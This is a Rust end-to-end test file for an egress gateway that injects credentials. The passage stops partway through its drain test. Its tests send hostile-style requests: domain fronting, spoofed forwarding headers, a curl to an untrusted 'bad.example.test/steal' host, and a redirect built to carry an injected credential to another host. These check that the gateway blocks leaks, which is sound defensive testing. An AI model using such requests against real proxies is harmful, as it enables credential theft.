//! CubeEgress end to end, with real packets and real TLS in namespaces this test creates.
//!
//! ```text
//!  sandbox ns                         node ns                                     world ns
//!  eth0 192.168.0.2/18 (+ .3) ─veth─ cube-dev 192.168.0.1/18                      wp0 198.51.100.1 (+ .3)
//!   curl (trusts the gateway CA)      mangle: dport 80/443 from cube-dev → marks   HTTPS servers (test CA):
//!                                     (stand-in for the datapath)                   .1:443 api.example.test (+ :80 HTTP)
//!                                     cube-egress-net.sh up → TPROXY → cube-egress   .3:443 bad.example.test (untrusted CA)
//!                                     dump server 127.0.0.1:9998 (bootstrap)      .1:53 DNS (the gateway's resolver)
//! ```
//!
//! `egress_gateway_end_to_end` covers the normal behaviour; `egress_gateway_holes` attacks the
//! gateway (random SNIs, foreign destinations behind an allowed Host, tokens in URLs, the
//! handoff socket); `egress_gateway_fails_closed_without_audit` gives it an audit file it cannot
//! write (`/dev/full`): nothing may be forwarded (E20); `egress_gateway_request_confusion` sends
//! hand-written requests naming two hosts or smuggling a second request (R14);
//! `egress_gateway_never_dials_a_sandbox` points an allowed rule at another sandbox (R17);
//! `egress_gateway_connection_flood_starves_no_other_sandbox` holds connections open (R18);
//! `egress_gateway_colluding_sandboxes_starve_no_other_sandbox` does it from six sandboxes at
//! once (R22); `egress_gateway_audit_flood_starves_no_other_sandbox` fills the audit queue from
//! one sandbox while the audit file is a FIFO nobody reads (R23);
//! `egress_gateway_http2_streams_starve_no_other_sandbox` multiplexes 400 HTTP/2 streams (R24);
//! `egress_gateway_sighup_cuts_handshakes_and_dials_in_progress` lists a destination while
//! connections to it are in their TLS handshake or waiting for an upstream dial (E27).

use std::{
    convert::Infallible,
    future::Future,
    net::SocketAddr,
    path::Path,
    process::Output,
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use bytes::Bytes;
use cubenet_tests::{
    TmpDir,
    egress_swap::{STEER_HTTP, STEER_HTTPS, egress_bin, sandbox_behind_cube_dev, script, text},
    netns::{ChildGuard, TestNetns},
    require_root, tls,
    topology::Topology,
    wait_for,
};
use http_body_util::Full;
use hyper::{Request, Response, body::Incoming};
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::{Value, json};

const SANDBOX_IP: &str = "192.168.0.2";
const UNKNOWN_IP: &str = "192.168.0.3";
const GATEWAY: &str = "192.168.0.1";
const WORLD: &str = "198.51.100.1";
const WORLD_BAD: &str = "198.51.100.3";
const SECRET: &str = "sk-live-TOPSECRET-0123456789";

/// One request as the world server saw it.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    version: hyper::Version,
    headers: Vec<(String, String)>,
}

impl Seen {
    fn header(&self, name: &str) -> Vec<&str> {
        self.headers.iter().filter(|(k, _)| k == name).map(|(_, v)| v.as_str()).collect()
    }
}

type SeenLog = Arc<Mutex<Vec<Seen>>>;

/// A streamed body: `first` now, `last` after 6 s (shows whether a proxy buffers).
struct Dribble {
    step: u8,
    sleep: std::pin::Pin<Box<tokio::time::Sleep>>,
}

impl hyper::body::Body for Dribble {
    type Data = Bytes;
    type Error = Infallible;
    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<hyper::body::Frame<Bytes>, Infallible>>> {
        use std::task::Poll;
        match self.step {
            0 => {
                self.step = 1;
                Poll::Ready(Some(Ok(hyper::body::Frame::data(Bytes::from_static(b"first\n")))))
            }
            1 => match self.sleep.as_mut().poll(cx) {
                Poll::Ready(()) => {
                    self.step = 2;
                    Poll::Ready(Some(Ok(hyper::body::Frame::data(Bytes::from_static(b"last\n")))))
                }
                Poll::Pending => Poll::Pending,
            },
            _ => Poll::Ready(None),
        }
    }
}

type WorldBody = http_body_util::combinators::UnsyncBoxBody<Bytes, Infallible>;

async fn world_handler(seen: SeenLog, req: Request<Incoming>) -> Result<Response<WorldBody>, Infallible> {
    use http_body_util::BodyExt;
    let path = req.uri().path().to_string();
    let headers =
        req.headers().iter().map(|(k, v)| (k.as_str().to_string(), v.to_str().unwrap_or("").to_string())).collect();
    let method = req.method().as_str().to_string();
    seen.lock().unwrap().push(Seen { method, path: path.clone(), version: req.version(), headers });
    if path.starts_with("/v1/hang/") {
        // Held past the test (the runtime is dropped at its end), within the gateway's 60 s.
        tokio::time::sleep(Duration::from_secs(50)).await;
    }
    if path == "/v1/slow" {
        tokio::time::sleep(Duration::from_millis(1500)).await;
    }
    if let Some(to) = path.strip_prefix("/v1/redirect/") {
        // A redirect to another host (`/v1/redirect/<host>`): a client that followed it would
        // carry the request, and an injected credential, there.
        let r = Response::builder()
            .status(302)
            .header("location", format!("http://{to}/v1/stolen"))
            .body(Full::new(Bytes::from_static(b"moved\n")).boxed_unsync())
            .unwrap();
        return Ok(r);
    }
    if path == "/v1/stream" {
        let body = Dribble { step: 0, sleep: Box::pin(tokio::time::sleep(Duration::from_secs(6))) };
        return Ok(Response::new(body.boxed_unsync()));
    }
    Ok(Response::new(Full::new(Bytes::from(format!("hello from world {path}\n"))).boxed_unsync()))
}

/// Serves HTTPS (when `tls`) or plain HTTP on a listener bound inside `ns`, recording requests.
fn world_server(
    rt: &tokio::runtime::Runtime,
    ns: &TestNetns,
    addr: SocketAddr,
    tls: Option<rustls::ServerConfig>,
) -> SeenLog {
    let l = ns.run(move || std::net::TcpListener::bind(addr)).unwrap();
    l.set_nonblocking(true).unwrap();
    let seen: SeenLog = Arc::default();
    let s = seen.clone();
    let acceptor = tls.map(|c| tokio_rustls::TlsAcceptor::from(Arc::new(c)));
    rt.spawn(async move {
        let l = tokio::net::TcpListener::from_std(l).unwrap();
        loop {
            let Ok((stream, _)) = l.accept().await else { continue };
            let (s, acceptor) = (s.clone(), acceptor.clone());
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(move |r| world_handler(s.clone(), r));
                let b = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                match acceptor {
                    Some(a) => {
                        if let Ok(t) = a.accept(stream).await {
                            let _ = b.serve_connection(TokioIo::new(t), svc).await;
                        }
                    }
                    None => {
                        let _ = b.serve_connection(TokioIo::new(stream), svc).await;
                    }
                }
            });
        }
    });
    seen
}

/// The agent's policy dump endpoint: 503 until `ready`, then `{"policies": …}`.
fn dump_server(rt: &tokio::runtime::Runtime, ns: &TestNetns, ready: Arc<AtomicBool>, dump: Value) -> SocketAddr {
    let l = ns.run(|| std::net::TcpListener::bind("127.0.0.1:0")).unwrap();
    l.set_nonblocking(true).unwrap();
    let addr = l.local_addr().unwrap();
    let body = dump.to_string();
    rt.spawn(async move {
        let l = tokio::net::TcpListener::from_std(l).unwrap();
        loop {
            let Ok((stream, _)) = l.accept().await else { continue };
            let (ready, body) = (ready.clone(), body.clone());
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(move |_r: Request<Incoming>| {
                    let (ready, body) = (ready.clone(), body.clone());
                    async move {
                        let mut resp = Response::new(Full::new(Bytes::from(body)));
                        if !ready.load(Ordering::SeqCst) {
                            *resp.status_mut() = hyper::StatusCode::SERVICE_UNAVAILABLE;
                        }
                        Ok::<_, Infallible>(resp)
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new().serve_connection(TokioIo::new(stream), svc).await;
            });
        }
    });
    addr
}

/// curl in `ns`; returns (HTTP code or 0, body, full output).
fn curl(ns: &TestNetns, args: &[&str]) -> (u16, String, Output) {
    let mut a = vec!["-sS", "--max-time", "10", "-w", "\n%{http_code} %{http_version}"];
    a.extend_from_slice(args);
    let o = ns.exec("curl", &a);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let (body, tail) = out.rsplit_once('\n').unwrap_or(("", &out));
    let code = tail.split_whitespace().next().and_then(|c| c.parse().ok()).unwrap_or(0);
    (code, body.to_string(), o)
}

/// Waits up to 20 s for `child` to exit; panics early if `other` (its partner) exits first.
fn wait_exit(child: &mut ChildGuard, other: &mut Option<&mut ChildGuard>) -> std::process::ExitStatus {
    let end = Instant::now() + Duration::from_secs(20);
    while Instant::now() < end {
        if let Some(s) = child.child().try_wait().unwrap() {
            return s;
        }
        if let Some(o) = other.as_mut()
            && let Some(s) = o.child().try_wait().unwrap()
        {
            panic!("partner process exited first: {s}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("process {} did not exit in time", child.id());
}

fn gw_none<'a>() -> Option<&'a mut ChildGuard> {
    None
}

fn audit_lines(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("audit line is not JSON ({e}): {l}")))
        .collect()
}

/// The audit log's records once `done` holds for them (the writer is asynchronous: a record
/// may land after the response that caused it), waiting up to 10 s; panics with the records.
fn audit_when(path: &Path, mut done: impl FnMut(&[Value]) -> bool) -> Vec<Value> {
    let end = Instant::now() + Duration::from_secs(10);
    loop {
        let lines = audit_lines(path);
        if done(&lines) {
            return lines;
        }
        assert!(Instant::now() < end, "the audit records never matched: {lines:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn has_event(lines: &[Value], event: &str, reason: &str) -> bool {
    lines.iter().any(|l| l["event"] == event && l["security"]["reason"].as_str().is_some_and(|r| r.starts_with(reason)))
}

/// `curl args` from `node` (the gateway's admin API): (HTTP status, body), status 0 when
/// unreachable.
fn admin_curl(node: &TestNetns, args: &[&str]) -> (u16, String) {
    let mut a = vec!["-s", "--max-time", "5", "-w", "\n%{http_code}"];
    a.extend_from_slice(args);
    let o = node.exec("curl", &a);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let (body, code) = out.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// The gateway CA in `<dir>/ca` (`cube-root-ca.crt`, `cube-root-ca.key`), which the sandbox
/// trusts.
fn gateway_ca(dir: &Path) -> tls::TestCa {
    std::fs::create_dir_all(dir.join("ca")).unwrap();
    let ca = tls::make_ca("CubeSandbox Egress test CA");
    std::fs::write(dir.join("ca/cube-root-ca.crt"), &ca.pem).unwrap();
    std::fs::write(dir.join("ca/cube-root-ca.key"), &ca.key_pem).unwrap();
    ca
}

/// A gateway behind the TPROXY plumbing with no bootstrap (policies come through the admin
/// API); on drop the gateway is killed, then the plumbing taken down.
struct Gateway<'a> {
    _child: ChildGuard,
    _down: NetDown<'a>,
}

/// Brings the plumbing up in `node` and starts `cmd` (the gateway binary, or a wrapper such
/// as `prlimit` followed by it) with `--sandbox-cidr 192.168.0.0/18 --ca-dir <dir>/ca
/// --audit-file <audit> --bootstrap-url ""` and `extra`, then waits for its admin health.
fn start_gateway<'a>(
    node: &'a TestNetns,
    mut cmd: std::process::Command,
    dir: &Path,
    audit: &str,
    extra: &[&str],
) -> Gateway<'a> {
    let down = NetDown(node);
    let o = node.exec("bash", &[script().to_str().unwrap(), "up"]);
    assert!(o.status.success(), "up: {}", text(&o));
    let child = cmd
        .stdin(std::process::Stdio::null())
        .args(["--sandbox-cidr", "192.168.0.0/18", "--ca-dir", dir.join("ca").to_str().unwrap()])
        .args(["--audit-file", audit, "--bootstrap-url", ""])
        .args(extra)
        .spawn()
        .unwrap();
    let gw = Gateway { _child: ChildGuard::from_child(child), _down: down };
    wait_for("admin health", Duration::from_secs(10), || {
        admin_curl(node, &["http://127.0.0.1:9091/admin/v1/health"]).0 == 200
    });
    gw
}

/// Held by every gateway test of this binary for its whole run: shared by most, exclusive by
/// the tests that compare a victim's share of the machine under a flood with its share alone
/// (libtest runs two tests at once here; another test's load coming or going between the two
/// measurements moved that ratio more than the flood did).
static MACHINE: std::sync::RwLock<()> = std::sync::RwLock::new(());

/// How a test holds [`MACHINE`].
#[allow(dead_code)] // Held for its drop only.
enum MachineShare {
    Shared(std::sync::RwLockReadGuard<'static, ()>),
    Alone(std::sync::RwLockWriteGuard<'static, ()>),
}

/// A scratch directory (`.0`), removed on drop, and the test's hold on [`MACHINE`], given up
/// after the directory is gone.
struct Scratch(std::path::PathBuf, #[allow(dead_code)] MachineShare);

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The tokio runtime (2 workers) and a fresh scratch directory
/// `$TMPDIR/cube-egress-<tag>-<pid>` with the `ca/` subdirectory the gateway tests start from;
/// the directory is removed when the [`Scratch`] drops. The test shares the machine with the
/// others of this binary but for [`scratch_alone`]'s.
fn scratch(tag: &str) -> (tokio::runtime::Runtime, Scratch) {
    let share = MachineShare::Shared(MACHINE.read().unwrap_or_else(|e| e.into_inner()));
    scratch_with(tag, share)
}

/// [`scratch`] for a test that measures shares of the machine: it waits until no other gateway
/// test of this binary runs, and none starts until it ends.
fn scratch_alone(tag: &str) -> (tokio::runtime::Runtime, Scratch) {
    let share = MachineShare::Alone(MACHINE.write().unwrap_or_else(|e| e.into_inner()));
    scratch_with(tag, share)
}

fn scratch_with(tag: &str, share: MachineShare) -> (tokio::runtime::Runtime, Scratch) {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let tmp = Scratch(std::env::temp_dir().join(format!("cube-egress-{tag}-{}", std::process::id())), share);
    std::fs::create_dir_all(tmp.0.join("ca")).unwrap();
    (rt, tmp)
}

/// `cube-egress` under `prlimit --nofile=<nofile>:<nofile>` in `node`: the descriptor limit
/// the connection budgets (R18, R22) derive from.
fn egress_with_nofile(node: &TestNetns, nofile: u32) -> std::process::Command {
    let mut cmd = node.command("prlimit");
    cmd.args([format!("--nofile={nofile}:{nofile}").as_str(), egress_bin().to_str().unwrap()]);
    cmd
}

/// PUTs `policy` for the sandbox at `ip` through the admin API; asserts 200.
fn put_policy(node: &TestNetns, ip: &str, policy: &Value) {
    let url = format!("http://127.0.0.1:9091/admin/v1/policies/{ip}");
    let (code, body) = admin_curl(node, &["-X", "PUT", "--data", &policy.to_string(), &url]);
    assert_eq!(code, 200, "{body}");
}

/// Runs `cube-egress-net.sh down` in the node namespace on drop (also on panic).
struct NetDown<'a>(&'a TestNetns);
impl Drop for NetDown<'_> {
    fn drop(&mut self) {
        let _ = self.0.exec("bash", &[script().to_str().unwrap(), "down"]);
    }
}

/// The world's DNS server on `WORLD:53`: `A` answers from `names` (TTL 30), NXDOMAIN otherwise.
fn world_dns(world: &TestNetns, names: &[(&str, &str)]) -> cubenet_tests::servers::Server {
    use simple_dns::{CLASS, Packet, QTYPE, RCODE, ResourceRecord, TYPE, rdata::RData};
    let names: Vec<(String, std::net::Ipv4Addr)> =
        names.iter().map(|(n, ip)| (n.to_string(), ip.parse().unwrap())).collect();
    let ip: std::net::Ipv4Addr = WORLD.parse().unwrap();
    cubenet_tests::servers::udp_responder(world, ip.octets(), 53, move |query, _| {
        let q = Packet::parse(query).ok()?;
        let question = q.questions.first()?.clone();
        let mut reply = q.into_reply();
        let asked = question.qname.to_string().trim_end_matches('.').to_ascii_lowercase();
        match names.iter().find(|(n, _)| *n == asked) {
            None => *reply.rcode_mut() = RCODE::NameError,
            Some((_, a)) if question.qtype == QTYPE::TYPE(TYPE::A) => reply.answers.push(ResourceRecord::new(
                question.qname.clone(),
                CLASS::IN,
                30,
                RData::A(simple_dns::rdata::A { address: u32::from(*a) }),
            )),
            Some(_) => {}
        }
        reply.build_bytes_vec().ok()
    })
    .expect("bind world DNS")
}

/// The sandbox namespace behind `cube-dev` in the node (192.168.0.2 and .3 on eth0), the
/// datapath stand-in (marks on sandbox port-80/443 traffic, as CubeVS sets for L7 flows) and
/// the world's second address.
fn sandbox_net(topo: &Topology) -> TestNetns {
    let sb = sandbox_behind_cube_dev(topo, &[STEER_HTTP, STEER_HTTPS]);
    sb.ip(&["addr", "add", &format!("{UNKNOWN_IP}/18"), "dev", "eth0"]);
    topo.world.ip(&["addr", "add", &format!("{WORLD_BAD}/24"), "dev", "wp0"]);
    sb
}

fn policy() -> Value {
    json!({"policy_id": SANDBOX_IP, "rules": [
        {"id": "deny-admin", "match": {"host": "api.example.test", "path": "/admin*"}, "action": {"allow": false}},
        {"id": "api", "match": {"sni": "api.example.test"},
         "action": {"allow": true, "inject": [{"header": "Authorization", "secret": SECRET, "format": "Bearer ${SECRET}"}]}},
        {"id": "bad", "match": {"sni": "bad.example.test"}, "action": {"allow": true}},
        {"id": "plain", "match": {"host": WORLD, "scheme": "http"},
         "action": {"allow": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}]}}
    ]})
}

#[test]
fn egress_gateway_end_to_end() {
    if !require_root("egress_gateway_end_to_end") {
        return;
    }
    let (rt, tmp) = scratch("e2e");
    let dir = &tmp.0;

    // Namespaces: node + world from the harness, plus the sandbox client on cube-dev.
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);

    // Certificates: the gateway CA (sandbox trusts it), the world CA (gateway trusts it via
    // --upstream-extra-ca), and a rogue CA nobody trusts.
    let gw_ca = tls::make_ca("CubeSandbox Egress test CA");
    let world_ca = tls::make_ca("world test CA");
    let rogue_ca = tls::make_ca("rogue CA");
    std::fs::write(dir.join("ca/cube-root-ca.crt"), &gw_ca.pem).unwrap();
    std::fs::write(dir.join("ca/cube-root-ca.key"), &gw_ca.key_pem).unwrap();
    std::fs::write(dir.join("world-ca.pem"), &world_ca.pem).unwrap();
    let gw_ca_pem = dir.join("ca/cube-root-ca.crt");

    let seen = world_server(
        &rt,
        world,
        format!("{WORLD}:443").parse().unwrap(),
        Some(tls::server_config(&world_ca, "api.example.test")),
    );
    let seen_http = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let seen_bad = world_server(
        &rt,
        world,
        format!("{WORLD_BAD}:443").parse().unwrap(),
        Some(tls::server_config(&rogue_ca, "bad.example.test")),
    );
    let ready = Arc::new(AtomicBool::new(false));
    let dump = dump_server(&rt, node, ready.clone(), json!({"policies": {SANDBOX_IP: policy()}}));

    // The gateway checks that an injected credential's destination belongs to the SNI (E14).
    let _dns = world_dns(world, &[("api.example.test", WORLD), ("bad.example.test", WORLD_BAD)]);
    let before_up = String::from_utf8_lossy(&node.exec("iptables", &["-t", "mangle", "-S"]).stdout).into_owned();
    let rules_before = node.ip(&["rule", "show"]);
    let _down = NetDown(node);
    let o = node.exec("bash", &[script().to_str().unwrap(), "up"]);
    assert!(o.status.success(), "up: {}", text(&o));
    let o = node.exec("bash", &[script().to_str().unwrap(), "up"]);
    assert!(o.status.success(), "second up (idempotent): {}", text(&o));
    let o = node.exec("bash", &[script().to_str().unwrap(), "status"]);
    assert!(o.status.success(), "status after up: {}", text(&o));
    // A rejected `up` (mark outside the mask) changes nothing: the working chain stays.
    let mangle_up = String::from_utf8_lossy(&node.exec("iptables", &["-t", "mangle", "-S"]).stdout).into_owned();
    let o = node
        .command("bash")
        .args([script().to_str().unwrap(), "up"])
        .env("CUBE_EGRESS_MARK_HTTP", "0x1")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "invalid mark must be refused: {}", text(&o));
    let mangle_after = String::from_utf8_lossy(&node.exec("iptables", &["-t", "mangle", "-S"]).stdout).into_owned();
    assert_eq!(mangle_after, mangle_up, "a refused up must not touch the installed chain");

    // The gateway.
    let audit = dir.join("log/access.jsonl");
    let dump_url = format!("http://{dump}/v1/policies/dump");
    let mut gw: ChildGuard = node.spawn(
        egress_bin().to_str().unwrap(),
        &[
            "--sandbox-cidr",
            "192.168.0.0/18",
            "--ca-dir",
            dir.join("ca").to_str().unwrap(),
            "--upstream-extra-ca",
            dir.join("world-ca.pem").to_str().unwrap(),
            "--audit-file",
            audit.to_str().unwrap(),
            "--bootstrap-url",
            &dump_url,
            "--bootstrap-attempts",
            "2",
            "--bootstrap-retry-secs",
            "1",
            "--drain-timeout-secs",
            "10",
            "--handoff-socket",
            dir.join("handoff.sock").to_str().unwrap(),
            "--dns-server",
            &format!("{WORLD}:53"),
        ],
    );
    let admin = |args: &[&str]| admin_curl(node, args);
    wait_for("admin health", Duration::from_secs(10), || admin(&["http://127.0.0.1:9091/admin/v1/health"]).0 == 200);

    // Before bootstrap: every request is refused (HTTP 403; HTTPS gets no certificate).
    let (code, body, _) = curl(&sb, &[&format!("http://{WORLD}/x")]);
    assert_eq!(code, 403, "before bootstrap: {body}");
    let resolve = format!("api.example.test:443:{WORLD}");
    let ca_arg = gw_ca_pem.to_str().unwrap();
    let (code, _, o) = curl(&sb, &["--cacert", ca_arg, "--resolve", &resolve, "https://api.example.test/v1/early"]);
    assert_eq!(code, 0, "HTTPS before bootstrap must not complete a handshake: {}", text(&o));
    assert!(seen.lock().unwrap().is_empty() && seen_http.lock().unwrap().is_empty(), "nothing reached the world yet");

    ready.store(true, Ordering::SeqCst);
    wait_for("bootstrap ready", Duration::from_secs(15), || {
        admin(&["http://127.0.0.1:9091/admin/v1/health"]).1.contains("\"bootstrap_status\":\"ready\"")
    });

    // Allowed HTTPS request: client trusts our CA; the server sees the injected credential
    // only (the client's copy and X-Forwarded-For are removed).
    let (code, body, o) = curl(
        &sb,
        &[
            "--cacert",
            ca_arg,
            "--resolve",
            &resolve,
            "-H",
            "Authorization: Bearer sandbox-placeholder",
            "-H",
            "X-Forwarded-For: 6.6.6.6",
            "https://api.example.test/v1/chat",
        ],
    );
    assert_eq!(code, 200, "allowed request: {}", text(&o));
    assert!(body.contains("hello from world /v1/chat"), "{body}");
    {
        let s = seen.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/v1/chat").expect("world saw /v1/chat");
        assert_eq!(r.header("authorization"), vec![format!("Bearer {SECRET}").as_str()]);
        assert!(r.header("x-forwarded-for").is_empty(), "{r:?}");
        assert_eq!(r.header("host"), vec!["api.example.test"]);
    }

    // HTTP/2 on both legs.
    let (code, _, o) =
        curl(&sb, &["--http2", "--cacert", ca_arg, "--resolve", &resolve, "https://api.example.test/v1/h2"]);
    assert_eq!(code, 200, "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stdout).trim_end().ends_with(" 2"), "client leg is h2: {}", text(&o));
    assert!(
        seen.lock().unwrap().iter().any(|r| r.path == "/v1/h2" && r.version == hyper::Version::HTTP_2),
        "upstream leg negotiated h2"
    );

    // Streamed responses pass through unbuffered: the first chunk arrives while the upstream
    // still holds the rest (curl gives up after 2.5 s, the body completes after 6 s).
    let (_, _, o) = curl(
        &sb,
        &["-N", "--max-time", "2.5", "--cacert", ca_arg, "--resolve", &resolve, "https://api.example.test/v1/stream"],
    );
    assert_eq!(o.status.code(), Some(28), "curl must time out mid-body: {}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("first") && !out.contains("last"), "first chunk streamed before the end: {}", text(&o));

    // Denied by rule: 403 and the server sees nothing.
    let (code, _, _) = curl(&sb, &["--cacert", ca_arg, "--resolve", &resolve, "https://api.example.test/admin/users"]);
    assert_eq!(code, 403);
    assert!(!seen.lock().unwrap().iter().any(|r| r.path.starts_with("/admin")), "denied request reached the server");

    // SNI ≠ Host (domain fronting): request continues without credentials, security event.
    let (code, _, o) = curl(
        &sb,
        &[
            "--cacert",
            ca_arg,
            "--resolve",
            &resolve,
            "-H",
            "Host: other.example.test",
            "https://api.example.test/v1/fronted",
        ],
    );
    assert_eq!(code, 200, "{}", text(&o));
    {
        let s = seen.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/v1/fronted").expect("world saw /v1/fronted");
        assert!(r.header("authorization").is_empty(), "credential leaked on SNI≠Host: {r:?}");
    }

    // Plain HTTP rule with injection but no opt-in: forwarded without the credential.
    let (code, _, o) = curl(&sb, &["-H", "X-Api-Key: from-sandbox", &format!("http://{WORLD}/plain")]);
    assert_eq!(code, 200, "{}", text(&o));
    {
        let s = seen_http.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/plain").expect("world saw /plain");
        assert!(r.header("x-api-key").is_empty(), "no plaintext injection and the client copy is removed: {r:?}");
    }

    // Upstream with a certificate we do not trust: 502, security event, nothing served.
    let resolve_bad = format!("bad.example.test:443:{WORLD_BAD}");
    let (code, _, o) = curl(&sb, &["--cacert", ca_arg, "--resolve", &resolve_bad, "https://bad.example.test/steal"]);
    assert_eq!(code, 502, "{}", text(&o));
    assert!(seen_bad.lock().unwrap().is_empty(), "request reached an unverified upstream");

    // Unknown sandbox (source 192.168.0.3 has no policy): 403.
    let (code, _, _) = curl(&sb, &["--interface", UNKNOWN_IP, &format!("http://{WORLD}/unknown")]);
    assert_eq!(code, 403);
    assert!(!seen_http.lock().unwrap().iter().any(|r| r.path == "/unknown"));

    // The minted leaf, checked with openssl: SAN, EKU, 7-day validity, chains to our CA.
    let o = sb.exec(
        "bash",
        &["-c", &format!(
            "openssl s_client -connect {WORLD}:443 -servername api.example.test </dev/null 2>/dev/null | openssl x509 -out {}",
            dir.join("leaf.pem").display()
        )],
    );
    assert!(o.status.success(), "{}", text(&o));
    let leaf_pem = dir.join("leaf.pem");
    let leaf_s = leaf_pem.to_str().unwrap();
    let o = sb.exec(
        "openssl",
        &["x509", "-in", leaf_s, "-noout", "-ext", "subjectAltName,extendedKeyUsage,basicConstraints"],
    );
    let ext = text(&o);
    assert!(ext.contains("DNS:api.example.test"), "{ext}");
    assert!(ext.contains("TLS Web Server Authentication"), "{ext}");
    assert!(ext.contains("CA:FALSE"), "{ext}");
    let o = sb.exec("openssl", &["x509", "-in", leaf_s, "-noout", "-checkend", &(6 * 86400 + 86000).to_string()]);
    assert!(o.status.success(), "leaf must stay valid for ~7 days: {}", text(&o));
    let o = sb.exec("openssl", &["x509", "-in", leaf_s, "-noout", "-checkend", &(7 * 86400 + 120).to_string()]);
    assert!(!o.status.success(), "leaf must expire after 7 days: {}", text(&o));
    let o = sb.exec("openssl", &["verify", "-CAfile", ca_arg, leaf_s]);
    assert!(o.status.success(), "leaf chains to the gateway CA: {}", text(&o));

    // Admin API round trip, secrets redacted on read.
    let base = "http://127.0.0.1:9091/admin/v1";
    let (code, body) = admin(&[&format!("{base}/policies/{SANDBOX_IP}")]);
    assert_eq!(code, 200);
    assert!(body.contains("***REDACTED***") && !body.contains(SECRET), "{body}");
    let (code, body) = admin(&[&format!("{base}/dump")]);
    assert_eq!(code, 200);
    assert!(body.contains(SANDBOX_IP) && !body.contains(SECRET), "{body}");
    let p4 = json!({"policy_id": "p4", "rules": [{"id": "a", "match": {"host": "x.test"}, "action": {"allow": true}}]});
    let (code, body) = admin(&["-X", "PUT", "--data", &p4.to_string(), &format!("{base}/policies/192.168.0.4")]);
    assert_eq!((code, body.as_str()), (200, "{\"ok\":true}"));
    let rule_b = json!({"id": "b", "match": {"host": "*.y.test", "path": "/v1/*"}, "action": {"allow": false}});
    let (code, _) = admin(&["-X", "PATCH", "--data", &rule_b.to_string(), &format!("{base}/policies/192.168.0.4")]);
    assert_eq!(code, 200);
    let (code, body) = admin(&[&format!("{base}/policies/192.168.0.4")]);
    assert_eq!(code, 200);
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["rules"][1]["match"]["host"], "*.y.test");
    let bad = json!({"policy_id": "p4", "rules": [{"id": "a", "match": {"path": "nope"}, "action": {"allow": true}}]});
    let (code, body) = admin(&["-X", "PUT", "--data", &bad.to_string(), &format!("{base}/policies/192.168.0.4")]);
    assert_eq!(code, 400);
    assert!(body.contains("rules[0].match.path"), "{body}");
    let (code, body) = admin(&["-X", "PUT", "--data", "{oops", &format!("{base}/policies/192.168.0.4")]);
    assert_eq!(code, 400, "{body}");
    assert_eq!(admin(&[&format!("{base}/policies/192.168.00.4")]).0, 400);
    assert_eq!(admin(&["-X", "POST", &format!("{base}/policies/192.168.0.4")]).0, 405);
    assert_eq!(admin(&["-X", "DELETE", &format!("{base}/policies/192.168.0.4")]).0, 200);
    assert_eq!(admin(&[&format!("{base}/policies/192.168.0.4")]).0, 404);
    assert_eq!(admin(&[&format!("{base}/nope")]).0, 404);
    let (code, metrics) = admin(&["http://127.0.0.1:9091/metrics"]);
    assert_eq!(code, 200);
    for needle in [
        "cube_egress_requests_total{decision=\"allow\"}",
        "cube_egress_requests_total{decision=\"deny\"}",
        "cube_egress_injections_total 3",
        "cube_egress_cert_mints_total",
        "cube_egress_cert_cache_hits_total",
        "cube_egress_upstream_errors_total{kind=\"tls\"} 1",
        "cube_egress_request_duration_seconds_bucket",
    ] {
        assert!(metrics.contains(needle), "metrics lack {needle}:\n{metrics}");
    }

    // Listener handoff: a successor takes the three listening sockets over the Unix socket;
    // the predecessor drains and exits; traffic continues on the successor.
    let mut gw2: ChildGuard = node.spawn(
        egress_bin().to_str().unwrap(),
        &[
            "--sandbox-cidr",
            "192.168.0.0/18",
            "--ca-dir",
            dir.join("ca").to_str().unwrap(),
            "--upstream-extra-ca",
            dir.join("world-ca.pem").to_str().unwrap(),
            "--audit-file",
            audit.to_str().unwrap(),
            "--bootstrap-url",
            &dump_url,
            "--drain-timeout-secs",
            "10",
            "--takeover-socket",
            dir.join("handoff.sock").to_str().unwrap(),
            "--dns-server",
            &format!("{WORLD}:53"),
        ],
    );
    let status = wait_exit(&mut gw, &mut Some(&mut gw2));
    assert!(status.success(), "predecessor exit after handoff: {status}");
    let (code, _, o) =
        curl(&sb, &["--cacert", ca_arg, "--resolve", &resolve, "https://api.example.test/v1/after-handoff"]);
    assert_eq!(code, 200, "request served by the successor: {}", text(&o));
    assert!(admin(&["http://127.0.0.1:9091/admin/v1/health"]).1.contains("\"bootstrap_status\":\"ready\""));
    let gw = &mut gw2;

    // SIGTERM drains an in-flight request, then the process exits 0.
    let sb_path = sb.path();
    let ca_owned = ca_arg.to_string();
    let resolve2 = resolve.clone();
    let slow = std::thread::spawn(move || {
        std::process::Command::new("ip")
            .args(["netns", "exec", sb_path.file_name().unwrap().to_str().unwrap(), "curl", "-s", "--max-time", "10"])
